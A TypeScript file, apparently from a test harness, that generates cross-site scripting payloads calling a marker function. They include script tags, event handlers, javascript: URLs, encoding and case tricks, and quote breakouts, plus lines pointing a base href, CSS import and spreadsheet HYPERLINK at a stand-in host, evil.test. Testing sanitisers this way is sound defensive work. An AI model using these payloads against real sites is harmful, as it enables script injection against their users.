// Script as people have smuggled it into texts; WORD stands for the function that tells it ran.

const kinds = [
  ...['<script>WORD()</script>', '<ScRiPt>WORD()</sCrIpT>', '</script><script>WORD()</script>'],
  ...['</ScRipt ><img src=x onerror=WORD()>', '<!--<script>WORD()', '--><script>WORD()</script>'],
  ...['<img src=x onerror=WORD()>', '"><img src=x onerror=WORD()>', "'><img src=x onerror=WORD()>"],
  ...['" onmouseover="WORD()', "' onfocus='WORD()' autofocus='", '<svg onload=WORD()>'],
  ...['<svg><script>WORD()</script></svg>', '<iframe srcdoc="<script>WORD()</script>">'],
  ...['<iframe src=javascript:WORD()>', '<a href="javascript:WORD()">x</a>'],
  ...['<a href="&#106;avascript:WORD()">x</a>', '<body onload=WORD()>'],
  ...['<math><mi xlink:href="javascript:WORD()">x</mi></math>'],
  ...['<object data="javascript:WORD()">', '<base href="https://evil.test/WORD/">'],
  ...['<meta http-equiv=refresh content="0;url=javascript:WORD()">'],
  ...["<style>@import 'https://evil.test/WORD'</style>", '\u2028WORD()//'],
  ...['\\u003cscript\\u003eWORD()\\u003c/script\\u003e', '&lt;script&gt;WORD()&lt;/script&gt;'],
  ...[']]><script>WORD()</script>', "{{constructor.constructor('WORD()')()}}", '`-WORD()-`'],
  ...['</textarea><script>WORD()</script>', '</title><script>WORD()</script>'],
  ...['<noscript><p title="</noscript><img src=x onerror=WORD()>">', 'javascript:WORD()'],
  ...['<x contenteditable onblur=WORD()>', '<details open ontoggle=WORD()>'],
  ...['<video><source onerror=WORD()></video>'],
  ...['<form><button formaction=javascript:WORD()>x</button></form>'],
  ...['<input autofocus onfocus=WORD()>', '<svg><animate onbegin=WORD() attributeName=x></svg>'],
  ...['<template><script>WORD()</script></template>', '=HYPERLINK("https://evil.test/WORD")'],
]

/** How many different payloads a full run has: each kind, and more under other names and letter cases. */
export const maxPayloads = 102

/** The `number`th payload; it calls `word`, in every place where script could begin. */
export function payload(number: number, word: string): string {
  const text = kinds[number % kinds.length]?.replaceAll('WORD', word) ?? ''
  switch (Math.floor(number / kinds.length)) {
    case 0:
      return text
    case 1:
      // Tags in capitals, and a slash where a space is expected: what simple filters forget.
      return text.replace(/<(\w+) /g, (_, tag: string) => `<${tag.toUpperCase()}/`)
    default:
      return `'"\`></option></select>${text}`
  }
}
